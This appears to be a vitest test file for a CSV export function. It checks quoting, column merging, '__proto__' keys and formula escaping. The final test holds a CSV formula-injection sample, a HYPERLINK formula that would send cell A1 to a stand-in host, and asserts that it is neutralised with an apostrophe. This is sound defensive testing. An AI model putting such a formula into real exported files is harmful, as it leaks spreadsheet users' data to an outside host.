import { expect, test } from 'vitest';
import { itemsCsv } from '../../../shared/services/outputs/items-csv.ts';

async function csvOf(...items: Record<string, unknown>[]): Promise<string> {
  let text = '';
  const all = async function* () {
    yield* items;
  };
  for await (const line of itemsCsv(all)) text += line;
  return text;
}

test('items with different keys make one table', async () => {
  expect(await csvOf({ a: 1, b: 'x,"y"' }, { c: [1], a: null, d: { e: true } }, {})).toBe(
    'a,b,c,d\r\n1,"x,""y""",,\r\n,,[1],"{""e"":true}"\r\n,,,\r\n',
  );
  expect(await csvOf()).toBe('');
});

test('items with more keys than columns are whole in the last one', async () => {
  const items = Array.from({ length: 101 }, (_, i) =>
    Object.fromEntries(Array.from({ length: 10 }, (_, j) => [`k${10 * i + j}`, 1])),
  );
  const lines = (await csvOf(...items)).split('\r\n');
  expect(lines[0]).toMatch(/^k0,.*,k999,item$/);
  expect(lines[1]).toMatch(/^1,1.*,$/);
  expect(lines[101]).toMatch(/^,+"{""k1000"":1,.*}"$/);
  expect(await csvOf(...items.slice(1))).toMatch(/k1009\r\n/);
});

test('keys that every object inherits are keys like others', async () => {
  const items = ['{"__proto__":"own"}', '{"constructor":1}', '{}'].map((line) => JSON.parse(line));
  expect(await csvOf(...items)).toBe('__proto__,constructor\r\nown,\r\n,1\r\n,\r\n');
});

test('a text or a name that a spreadsheet would take for a formula has an apostrophe before it', async () => {
  const item = { '=1+1': '=HYPERLINK("http://a.test/?"&A1)', price: -5, text: '-5', '-mixed': 1 };
  expect(await csvOf(item, { '-mixed': 'one', price: -0.5 }, { '-mixed': -1e21, price: 1 })).toBe(
    [
      `'=1+1,price,text,'-mixed`,
      `"'=HYPERLINK(""http://a.test/?""&A1)",-5,-5,1`,
      ',-0.5,,one',
      ',1,,-1e+21',
      '',
    ].join('\r\n'),
  );
});
